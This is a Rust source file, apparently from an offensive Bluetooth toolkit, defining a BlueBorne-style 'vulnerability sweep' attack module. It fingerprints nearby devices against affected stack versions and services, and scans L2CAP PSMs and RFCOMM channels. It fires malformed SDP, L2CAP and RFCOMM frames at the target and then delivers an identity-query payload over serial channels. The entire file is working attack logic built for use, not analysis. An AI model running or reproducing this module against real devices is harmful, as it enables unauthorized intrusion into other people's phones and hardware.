//! Vulnerability sweep (BlueBorne-style).
//!
//! Flags peers whose reported stack version or exposed protocols fall in the
//! historically affected set, throws malformed SDP, L2CAP and RFCOMM frames
//! at them, then pushes an identity query over the first serial channels.

use async_trait::async_trait;

use bluefang_codec::{l2cap, rfcomm, sdp};
use bluefang_common::{AttackKind, BdAddr, BlueResult, Transport};
use bluefang_fingerprint::{matches_any, parse_service_names, VULN_SWEEP_SERVICES, VULN_SWEEP_VERSIONS};

use crate::module::{AttackContext, AttackModule};
use crate::payloads::IDENTITY_QUERY;
use crate::probe;

/// Odd PSMs probed for open L2CAP services.
const PROBE_PSMS: [u16; 16] = [1, 3, 5, 7, 9, 11, 13, 15, 17, 19, 21, 23, 25, 27, 29, 31];
const RFCOMM_CHANNELS: std::ops::RangeInclusive<u16> = 1..=30;
const QUERY_CHANNELS: std::ops::RangeInclusive<u16> = 1..=4;

#[derive(Debug, Default)]
pub struct VulnSweep {
    services: Vec<String>,
}

impl VulnSweep {
    pub fn new() -> Self {
        Self::default()
    }

    async fn discover(&mut self, target: BdAddr, ctx: &AttackContext) -> BlueResult<()> {
        if let Some(text) = probe::browse(ctx, target).await? {
            self.services.extend(parse_service_names(&text));
        }
        for psm in PROBE_PSMS {
            ctx.cancel.check()?;
            if probe::open(ctx, target, Transport::L2cap, psm).await?.is_some() {
                self.services.push(format!("L2CAP:{}", psm));
            }
        }
        Ok(())
    }

    async fn malformed_sdp(&self, target: BdAddr, ctx: &AttackContext) -> BlueResult<bool> {
        ctx.log.info("Sending malformed SDP PDU");
        let reply = probe::exchange(ctx, target, Transport::L2cap, l2cap::psm::SDP, &sdp::malformed_pdu()).await?;
        Ok(reply.is_some())
    }

    async fn malformed_l2cap(&self, target: BdAddr, ctx: &AttackContext) -> BlueResult<bool> {
        ctx.log.info("Sending malformed L2CAP frame");
        let reply = probe::exchange(
            ctx,
            target,
            Transport::L2capDatagram,
            l2cap::psm::SDP,
            &l2cap::malformed_frame(),
        )
        .await?;
        Ok(reply.is_some())
    }

    async fn malformed_rfcomm(&self, target: BdAddr, ctx: &AttackContext) -> BlueResult<bool> {
        ctx.log.info("Sending malformed RFCOMM frames");
        let frame = rfcomm::malformed_frame();
        for channel in RFCOMM_CHANNELS {
            ctx.cancel.check()?;
            if probe::exchange(ctx, target, Transport::Rfcomm, channel, &frame).await?.is_some() {
                ctx.log.info(format!("RFCOMM channel {} answered the malformed frame", channel));
                return Ok(true);
            }
        }
        Ok(false)
    }
}

#[async_trait]
impl AttackModule for VulnSweep {
    fn kind(&self) -> AttackKind {
        AttackKind::VulnSweep
    }

    async fn check_vulnerability(&mut self, target: BdAddr, ctx: &AttackContext) -> BlueResult<bool> {
        let Some(info) = probe::device_info(ctx, target).await? else {
            return Ok(false);
        };
        if let Some(version) = matches_any(&info, VULN_SWEEP_VERSIONS) {
            ctx.log.info(format!("Affected stack version reported: {}", version));
            return Ok(true);
        }
        if let Some(service) = matches_any(&info, VULN_SWEEP_SERVICES) {
            ctx.log.info(format!("Affected protocol exposed: {}", service));
            return Ok(true);
        }
        Ok(false)
    }

    async fn exploit(&mut self, target: BdAddr, ctx: &AttackContext) -> BlueResult<bool> {
        self.discover(target, ctx).await?;
        if self.services.is_empty() {
            ctx.log.error("No services discovered");
            return Ok(false);
        }
        ctx.log.info(format!("Services discovered: {}", self.services.join(", ")));

        if self.malformed_sdp(target, ctx).await? {
            ctx.log.success("SDP server answered malformed PDU");
            return Ok(true);
        }
        if self.malformed_l2cap(target, ctx).await? {
            ctx.log.success("L2CAP layer answered malformed frame");
            return Ok(true);
        }
        if self.malformed_rfcomm(target, ctx).await? {
            ctx.log.success("RFCOMM layer answered malformed frame");
            return Ok(true);
        }
        Ok(false)
    }

    async fn run_payload(&mut self, target: BdAddr, ctx: &AttackContext) -> BlueResult<bool> {
        for channel in QUERY_CHANNELS {
            ctx.cancel.check()?;
            let Some(mut sock) = probe::open(ctx, target, Transport::Rfcomm, channel).await? else {
                continue;
            };
            if probe::send(ctx, sock.as_mut(), IDENTITY_QUERY).await? {
                ctx.log.success(format!("Identity query delivered on RFCOMM channel {}", channel));
                return Ok(true);
            }
        }
        Ok(false)
    }
}
